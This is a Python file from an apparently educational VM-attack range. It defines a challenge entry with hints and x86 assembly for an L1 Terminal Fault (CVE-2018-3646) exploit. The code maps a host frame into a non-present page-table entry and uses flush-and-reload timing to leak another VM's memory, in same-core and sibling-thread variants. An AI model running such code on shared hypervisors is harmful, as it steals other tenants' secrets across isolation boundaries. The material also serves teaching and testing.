"""What lies in the first-level cache, read by a load that is not allowed: L1 Terminal Fault, CVE-2018-3646."""

from dataclasses import replace

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

CACHED_SECRET = Attack(
    id="cached_secret",
    title=said("the first-level cache read after another VM has run"),
    code="""
    mov rsp, 0x8000             ; the stack grows down into page 7
    mov r15, {lowest_table}     ; the entry of page 5 is at 40 in it
    mov r13, {vm_memory_at}     ; a frame of the machine: as an entry it is not present, for its low bits are 0
    mov rbx, {mark}
    hlt                         ; the victim runs on this core, and leaves something in its cache
look:
    xor r14, r14                ; first half of the block: the mark, of which I know what its lowest digit must be
    xor rbp, rbp
    mov r9, rbx
    and r9, 15
    mov r10, r9
    inc r10
    call leak
    cmp r11, 16
    je next                     ; it is not, or nothing of the block is in the cache
    call word
    cmp r12, rbx
    jne next
    mov r14, 8                  ; the other half: the secret
    call word
    mov rax, {call_report}
    mov rdi, r12
    vmcall
    jmp end
next:
    add r13, {page_bytes}
    cmp r13, {machine_bytes}
    jb look
    jmp end

word:                           ; r12 = the word, digit by digit
    xor rbp, rbp
    xor r12, r12
    xor r9, r9
    mov r10, 16
digit:
    call leak
    mov rcx, rbp
    shl r11, cl
    or r12, r11
    add rbp, 4
    cmp rbp, 64
    jb digit
    ret

leak:                           ; r11 = the digit from bit rbp on of word r14 of frame r13, if in r9 to r10 - 1; else 16
    xor rsi, rsi
    mov [r15 + 40], r13         ; if this faults, my entries are not mine to write
    mov rsi, 0x5000
    invlpg [rsi]
    mov r11, r9
    mov rdi, r9                 ; a line of page 1 for each digit: the one that is fast afterwards is the right one
    shl rdi, 6
    add rdi, {page_bytes}
flush:
    clflush [rdi]
    add rdi, {line_bytes}
    inc r11
    cmp r11, r10
    jb flush
    mov rcx, rbp
    mov rdi, {page_bytes}
    mov rax, [rsi + r14]        ; faults; what follows leaves its trace only in the cache
    shr rax, cl
    and rax, 15
    shl rax, 6
    mov rax, [rax + rdi]
fault:
    test rsi, rsi
    jz end
    mov r11, r9
    mov rdi, r9
    shl rdi, 6
    add rdi, {page_bytes}
reload:
    rdtsc
    mov r8, rax
    mov rsi, [rdi]
    rdtsc
    sub rax, r8
    cmp rax, {slow_load}
    jb known
    add rdi, {line_bytes}
    inc r11
    cmp r11, r10
    jb reload
    mov r11, 16
known:
    ret
end:
""",
    placement=Placement(timed=True, core="in_turn"),
    family="V8",
    number=8,
    like="CVE-2018-3646 (L1TF)",
    hints=(
        said("What does a processor do with a page-table entry before it finds that the page is not present?"),
        said("Values that were read too early are taken back, but a line that was loaded by them stays in the cache."),
        said("Put a frame of the machine into an entry without its lowest bit, load, and time 16 lines of your own."),
    ),
)
"""Tries frame after frame of the machine, right after the victim has had the core."""

CACHED_SECRET_SIBLING = replace(
    CACHED_SECRET,
    id="cached_secret_sibling",
    title=said("the first-level cache read beside another VM"),
    placement=Placement(timed=True, core="sibling"),
)
"""The same code, while the victim runs on the other thread of the core: emptying the cache on entry does not help."""
